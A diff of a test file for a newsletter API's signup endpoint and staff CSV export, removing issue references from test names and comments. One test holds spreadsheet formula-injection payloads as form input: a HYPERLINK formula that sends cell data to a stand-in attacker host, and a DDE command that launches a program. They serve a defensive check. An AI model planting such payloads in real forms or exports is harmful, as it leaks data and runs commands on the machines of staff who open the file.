@@ -98,7 +98,7 @@ describe('GET /api/newsletter/subscribe/post-json (JSONP, the provider protocol)
     expect(await subscriber('cy@example.com')).toBeUndefined();
   });
 
-  it('answers a confirmed address exactly like a new one, and the email it promises says it is on the list (issue 41 §8)', async () => {
+  it('answers a confirmed address exactly like a new one, and the email it promises says it is on the list', async () => {
     const email = 'dee@example.com';
     await subscribe({ FNAME: 'Dee', LNAME: 'D', EMAIL: email });
     await confirmSubscription(linkIn(mailsTo(email)[0], 'confirm'));
@@ -198,13 +198,13 @@ describe('GET /api/newsletter/subscribers (staff export)', () => {
       .split('\n');
     expect(lines[0]).toBe('email,first_name,last_name,status,signed_up,confirmed,unsubscribed');
     expect(lines.find((l) => l.startsWith('fay@example.com,Fay,F,confirmed,'))).toMatch(
-      // In Virginia time with its zone (issue 41 §8), not UTC.
+      // In Virginia time with its zone, not UTC.
       /,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} E[SD]T,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} E[SD]T,$/,
     );
     expect(lines.some((l) => l.startsWith('hal@example.com,Hal,H,pending,'))).toBe(true);
   });
 
-  it('neutralises a formula typed into the anonymous signup form (issue 22 §5)', async () => {
+  it('neutralises a formula typed into the anonymous signup form', async () => {
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
     await subscribe({ FNAME: formula, LNAME: '+cmd|" /C calc"!A0', EMAIL: 'mallory@example.com' });
     const res = await callApi(subscribersRoute, { headers: await sessionCookie(DEMO.admin) });
